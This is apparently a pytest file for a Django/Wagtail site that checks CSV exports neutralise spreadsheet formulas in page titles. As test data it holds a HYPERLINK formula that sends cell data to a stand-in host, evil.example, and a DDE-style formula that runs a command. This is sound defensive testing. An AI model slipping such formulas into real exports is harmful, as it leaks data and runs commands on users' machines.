"""CSV exports never hand a spreadsheet a formula: the translations overview and Wagtail's report exports
write a title that starts with =, +, -, @ with a leading apostrophe."""

import csv
import io

from django.urls import reverse

import pytest

from tests import factories
from tests.helpers import login, make_user

from .conftest import korean_article

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Ашу")'


def rows(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_overview_csv_writes_a_formula_title_as_text(koryo, policy, koryo_editor, kazakh_translator):
    article = korean_article(koryo, title=FORMULA, slug="formula")
    article.save_revision().publish()
    response = login(koryo_editor).get(
        reverse("translations_overview"), {"outlet": str(koryo.translation_key), "format": "csv"}
    )
    titles = [row[1] for row in rows(response)[1:]]
    assert titles and all(title == "'" + FORMULA for title in titles)


def test_wagtail_report_csv_writes_a_formula_title_as_text(outlet):
    admin = make_user("report-admin")
    admin.is_superuser = True
    admin.save()
    factories.ArticlePageFactory(
        parent=outlet, title="@SUM(1+1)*cmd|' /C calc'!A0", slug="at-formula", locked=True, locked_by=admin
    )
    response = login(admin).get(reverse("wagtailadmin_reports:locked_pages"), {"export": "csv"})
    cells = [cell for row in rows(response) for cell in row]
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
    assert not any(cell.startswith(("=", "@", "+")) for cell in cells)
